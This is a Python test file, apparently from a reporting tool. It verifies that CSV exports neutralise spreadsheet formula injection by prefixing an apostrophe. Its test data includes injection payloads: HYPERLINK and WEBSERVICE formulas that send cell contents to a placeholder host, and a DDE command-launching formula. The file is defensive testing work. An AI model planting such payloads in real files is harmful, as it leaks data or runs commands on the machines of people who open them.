"""A spreadsheet that opens the CSV of a group's report works nothing out (X12).

The normal form asks by rule. `READINESS_LONG=1` lets LibreOffice open it too; it comes from
Debian: `apt-get install libreoffice-calc-nogui`.
"""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
from typing import TYPE_CHECKING

import pytest
from engines.test_score_command import save

from readiness.cli import main
from readiness.group.report_csv import csv_cell
from readiness.reading.loading import load

from .test_group_command import ASSESSMENT, mixed_people

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    Finder = Callable[[Path], int]

FORMULAS = {
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "=1+1;2", '="a"&"b"'),
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)"),
    '=HYPERLINK("https://example.invalid/?"&A1;"Open")',
    '=WEBSERVICE("https://example.invalid/"&A1)',
    "=cmd|' /C calc'!A0",
}


def by_rule(file: Path) -> int:
    """Count the cells that a spreadsheet could take for a formula."""
    with file.open(encoding="utf-8-sig", newline="") as opened:
        return sum(is_formula(cell) for row in csv.reader(opened) for cell in row)


def is_formula(cell: str) -> bool:
    """Tell whether some spreadsheet would work it out; a negative number is none."""
    begins = cell.lstrip("\t\r\n ")[:1]
    is_number = re.fullmatch(r"-\d+(\.\d+)?", cell) is not None
    return begins in set("=+-@\uff1d\uff0b\uff0d\uff20") - {""} and not is_number


def by_libreoffice(file: Path) -> int:
    """Count the formulas in what LibreOffice makes of the file, asked to look for them."""
    look = "--infilter=Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,false,false,true,-1"
    folder = f"-env:UserInstallation={(file.parent / 'office').as_uri()}"
    out = ("--headless", "--convert-to", "fods", "--outdir", str(file.parent))
    office = shutil.which("soffice")
    assert office is not None, "install libreoffice-calc-nogui"
    subprocess.run([office, folder, look, *out, str(file)], check=True, capture_output=True)
    sheets = [file.with_suffix(".fods"), *file.parent.glob(f"{file.stem}-*.fods")]
    return sum(one.read_text("utf-8").count("table:formula=") for one in sheets if one.is_file())


FINDERS: list[Finder] = [by_rule, *([by_libreoffice] if os.environ.get("READINESS_LONG") else [])]


@pytest.mark.parametrize("formulas_in", FINDERS, ids=lambda finder: finder.__name__)
def test_a_whole_report_holds_no_formula(
    formulas_in: Finder, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every cell is a number or begins harmlessly."""
    questionnaire = load(ASSESSMENT).questionnaire
    assert questionnaire is not None
    people = mixed_people(questionnaire)
    paths = [save(tmp_path / f"{n}.json", one, role=role) for n, (role, one) in enumerate(people)]
    main(["score", "--group", *paths, "--assessment", str(ASSESSMENT), "--csv"])
    file = tmp_path / "report.csv"
    file.write_text(capsys.readouterr().out, "utf-8-sig", newline="")
    with file.open(encoding="utf-8-sig", newline="") as opened:
        assert sum(len(row) for row in csv.reader(opened)) > 3000
    assert formulas_in(file) == 0


@pytest.mark.parametrize("formulas_in", FINDERS, ids=lambda finder: finder.__name__)
def test_a_formula_stays_a_text(formulas_in: Finder, tmp_path: Path) -> None:
    """An apostrophe stands before it. Canary: without one, some are worked out."""
    written = {name: tmp_path / f"{name}.csv" for name in ("guarded", "bare")}
    rows = {"guarded": map(csv_cell, FORMULAS), "bare": map(quoted, FORMULAS)}
    for name, file in written.items():
        file.write_text("\r\n".join(rows[name]), "utf-8-sig", newline="")
    assert formulas_in(written["guarded"]) == 0
    assert formulas_in(written["bare"]) >= len(FORMULAS) // 3


def quoted(text: str) -> str:
    """Write a cell as RFC 4180 has it, and nothing more."""
    return '"' + text.replace('"', '""') + '"'


@pytest.mark.parametrize("text", sorted(FORMULAS))
def test_the_apostrophe_is_the_first_sign(text: str) -> None:
    """Inside the quotes, where there are some."""
    assert csv_cell(text).lstrip('"').startswith("'")
